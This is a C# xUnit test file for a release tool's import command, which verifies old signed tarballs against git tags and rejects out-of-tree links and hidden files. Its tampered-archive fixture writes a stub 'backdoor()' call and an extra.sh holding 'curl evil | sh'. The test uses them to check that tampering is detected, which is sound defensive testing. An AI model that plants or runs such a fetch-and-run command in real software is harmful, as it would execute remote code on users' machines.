using System.Formats.Tar;
using System.IO.Compression;
using System.Net;
using Herald.Publishing;
using Herald.Tests.Web;
using Herald.Web;
using Xunit;

namespace Herald.Tests.Publishing;

/// <summary>
/// <c>herald import</c> over an old download tree: one good tarball (signed), one tampered (signed), one
/// unsigned, and files that must never be taken (a symbolic link out of the tree, a hidden file).
/// </summary>
public sealed class ImportTests(PublishingFixture fixture) : IClassFixture<PublishingFixture>
{
    private const string GoodSignature = "-----BEGIN PGP SIGNATURE-----\nold server's signature of 1.0.1\n-----END PGP SIGNATURE-----\n";
    private const string TamperedSignature = "-----BEGIN PGP SIGNATURE-----\nold server's signature of 1.0.0\n-----END PGP SIGNATURE-----\n";

    private HeraldProject OpenProject(string data) =>
        HeraldProject.Open(fixture.Repo.Path, null, data, fixture.Repo.Path, fixture.Folder.Path);

    private string NewFolder(string name) => fixture.Folder.CreateSubdirectory(name + "-" + Guid.NewGuid().ToString("N")[..8]);

    /// <summary>The old server's tree: release/1.0.1 (good .tar.gz with .sig and SHA256SUMS, unsigned .tar), release/1.0.0 (tampered, .asc).</summary>
    private (string Tree, string Slug, string Outside) BuildTree(string data)
    {
        var slug = OpenProject(data).Config.Slug;
        var tree = NewFolder("old-tree");
        var good = Path.Combine(tree, "release", "1.0.1");
        var old = Path.Combine(tree, "release", "1.0.0");
        Directory.CreateDirectory(good);
        Directory.CreateDirectory(old);

        // Good: what git archive gives, recompressed by another tool (different bytes, same content).
        var archive = fixture.Repo.GitRaw("archive", "--format=tar", $"--prefix={slug}-1.0.1/", "RELEASE-1.0.1");
        using (var output = File.Create(Path.Combine(good, $"{slug}-1.0.1.tar.gz")))
        using (var gzip = new GZipStream(output, CompressionLevel.Fastest))
        {
            gzip.Write(archive);
        }

        File.WriteAllText(Path.Combine(good, $"{slug}-1.0.1.tar.gz.sig"), GoodSignature);
        var digest = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(Path.Combine(good, $"{slug}-1.0.1.tar.gz"))));
        File.WriteAllText(Path.Combine(good, "SHA256SUMS"), $"{digest}  {slug}-1.0.1.tar.gz\n");

        // Unsigned: the plain tar of the same release.
        File.WriteAllBytes(Path.Combine(good, $"{slug}-1.0.1.tar"), archive);

        // Tampered: the 1.0.0 archive with one file changed and one added.
        var original = fixture.Repo.GitRaw("archive", "--format=tar", $"--prefix={slug}-1.0.0/", "RELEASE-1.0.0");
        using (var output = File.Create(Path.Combine(old, $"{slug}-1.0.0.tar.gz")))
        using (var gzip = new GZipStream(output, CompressionLevel.Optimal))
        using (var writer = new TarWriter(gzip, TarEntryFormat.Pax))
        using (var reader = new TarReader(new MemoryStream(original)))
        {
            while (reader.GetNextEntry(copyData: true) is { } entry)
            {
                if (entry.Name == $"{slug}-1.0.0/src/main.c")
                {
                    entry.DataStream = new MemoryStream("int main(void) { return backdoor(); }\n"u8.ToArray());
                }

                writer.WriteEntry(entry);
            }

            writer.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, $"{slug}-1.0.0/extra.sh") { DataStream = new MemoryStream("curl evil | sh\n"u8.ToArray()) });
        }

        File.WriteAllText(Path.Combine(old, $"{slug}-1.0.0.tar.gz.asc"), TamperedSignature);

        // Never taken: a link out of the tree under a tarball's name, and a hidden file.
        var outside = Path.Combine(NewFolder("outside"), "secret.tar");
        File.WriteAllBytes(outside, archive);
        File.CreateSymbolicLink(Path.Combine(old, $"{slug}-1.0.0.tar"), outside);
        File.WriteAllText(Path.Combine(old, ".htaccess"), "Deny from all\n");
        return (tree, slug, outside);
    }

    private static ImportResult Import(HeraldProject project, string tree, bool force = false) =>
        new Importer(project).ImportAsync(ArtifactStore.For(project), tree, force).GetAwaiter().GetResult();

    [Fact]
    public void Import_GoodTamperedAndUnsigned_RecordsEachVerdict()
    {
        var data = NewFolder("data");
        var (tree, slug, _) = BuildTree(data);

        var result = Import(OpenProject(data), tree);

        var good = result.Releases.Single(r => r.Version == "1.0.1");
        var tampered = result.Releases.Single(r => r.Version == "1.0.0");
        Assert.True(good.Imported);
        Assert.Equal(ImportVerdict.Verified, good.Files[$"{slug}-1.0.1.tar.gz"].Verdict);
        Assert.Equal($"{slug}-1.0.1.tar.gz.sig", good.Files[$"{slug}-1.0.1.tar.gz"].Signature);
        Assert.Equal("matches SHA256SUMS", good.Files[$"{slug}-1.0.1.tar.gz"].Checksums);
        Assert.Equal(ImportVerdict.Verified, good.Files[$"{slug}-1.0.1.tar"].Verdict);
        Assert.Null(good.Files[$"{slug}-1.0.1.tar"].Signature);
        var check = tampered.Files[$"{slug}-1.0.0.tar.gz"];
        Assert.Equal(ImportVerdict.Differs, check.Verdict);
        Assert.Equal([$"{slug}-1.0.0/extra.sh (only in the tarball)", $"{slug}-1.0.0/src/main.c (content differs)"], check.Differences);
    }

    [Fact]
    public void Import_Tree_KeepsTheOriginalSignaturesAndTheLayout()
    {
        var data = NewFolder("data");
        var (tree, slug, _) = BuildTree(data);

        Import(OpenProject(data), tree);

        var root = Path.Combine(data, "artifacts");
        var good = Path.Combine(root, ArtifactLayout.ReleaseFolder(slug, "1.0.1"));
        var tampered = Path.Combine(root, ArtifactLayout.ReleaseFolder(slug, "1.0.0"));
        Assert.Equal(GoodSignature, File.ReadAllText(Path.Combine(good, $"{slug}-1.0.1.tar.gz.sig")));
        Assert.Equal(TamperedSignature, File.ReadAllText(Path.Combine(tampered, $"{slug}-1.0.0.tar.gz.asc")));
        Assert.Equal(File.ReadAllBytes(Path.Combine(tree, "release", "1.0.1", $"{slug}-1.0.1.tar.gz")), File.ReadAllBytes(Path.Combine(good, $"{slug}-1.0.1.tar.gz")));
        Assert.False(File.Exists(Path.Combine(good, $"{slug}-1.0.1.tar.sig")), "an unsigned tarball must not get a signature");
        Assert.Equal(
            new[] { $"{slug}-1.0.0.tar.gz", $"{slug}-1.0.0.tar.gz.asc", "SHA256SUMS", "SHA512SUMS", "VERIFICATION" }.Order(StringComparer.Ordinal),
            Directory.GetFiles(tampered).Select(Path.GetFileName).Where(n => !n!.StartsWith('.')).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void Import_LinkOutOfTheTreeAndHiddenFile_AreRejectedNotImported()
    {
        var data = NewFolder("data");
        var (tree, slug, _) = BuildTree(data);

        var result = Import(OpenProject(data), tree);

        Assert.Contains(result.Rejected, r => r.Path == $"release/1.0.0/{slug}-1.0.0.tar" && r.Reason.Contains("out of the tree", StringComparison.Ordinal));
        Assert.Contains(result.Rejected, r => r.Path == "release/1.0.0/.htaccess");
        var tampered = Path.Combine(data, "artifacts", ArtifactLayout.ReleaseFolder(slug, "1.0.0"));
        Assert.False(File.Exists(Path.Combine(tampered, $"{slug}-1.0.0.tar")));
        Assert.DoesNotContain("1.0.0.tar ", File.ReadAllText(Path.Combine(tampered, "SHA256SUMS")), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_Again_LeavesImportedReleasesAndPublishAllSkipsThem()
    {
        var data = NewFolder("data");
        var (tree, slug, _) = BuildTree(data);
        var project = OpenProject(data);
        Import(project, tree);

        var again = Import(project, tree);
        var bulk = new BulkPublisher(project, new Publisher(project, fixture.Key, fixture.Clock));
        var all = await bulk.PublishAsync(ArtifactStore.For(project), bulk.Select(null, null), Publisher.DefaultFormats);

        Assert.All(again.Releases, r => Assert.False(r.Imported));
        Assert.Empty(all.Published);
        Assert.Equal(["1.0.0", "1.0.1"], all.AlreadyPublished);
        Assert.False(File.Exists(Path.Combine(data, "artifacts", ArtifactLayout.ReleaseFolder(slug, "1.0.1"), $"{slug}-1.0.1.tar.xz")));
    }

    [Fact]
    public async Task ReleasePage_AfterImport_ListsTheFilesWithTheirVerdicts()
    {
        var data = NewFolder("data");
        var (tree, slug, _) = BuildTree(data);
        Import(OpenProject(data), tree);
        await using var host = PortalHost.Start(new PortalOptions { Repository = fixture.Repo.Path, Data = data }, fixture.Clock.GetUtcNow());
        await host.WaitUntilHealthyAsync();

        var page = await host.Client.GetStringAsync("/releases/1.0.0");
        var report = await host.Client.GetStringAsync($"/downloads/release/{slug}/1.0.0/VERIFICATION");
        using var signature = await host.Client.GetAsync($"/downloads/release/{slug}/1.0.0/{slug}-1.0.0.tar.gz.asc");

        Assert.Contains($"{slug}-1.0.0.tar.gz", page, StringComparison.Ordinal);
        Assert.Contains($"release/{slug}/1.0.0/VERIFICATION", page, StringComparison.Ordinal);
        Assert.Contains("<th scope=\"col\">Checked against the tag</th>", page, StringComparison.Ordinal);
        Assert.Contains("<span class=\"verdict-differs\"", page, StringComparison.Ordinal);
        Assert.Contains("<span class=\"verdict-verified\"", await host.Client.GetStringAsync("/releases/1.0.1"), StringComparison.Ordinal);
        Assert.Contains($"{slug}-1.0.0.tar.gz: differs", report, StringComparison.Ordinal);
        Assert.Contains("src/main.c (content differs)", report, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, signature.StatusCode);
        Assert.Equal(TamperedSignature, await signature.Content.ReadAsStringAsync());
        var good = await host.Client.GetStringAsync($"/downloads/release/{slug}/1.0.1/VERIFICATION");
        Assert.Contains($"{slug}-1.0.1.tar.gz: verified", good, StringComparison.Ordinal);
        Assert.Contains($"{slug}-1.0.1.tar: verified", good, StringComparison.Ordinal);
        Assert.Contains("signature: none", good, StringComparison.Ordinal);
    }
}
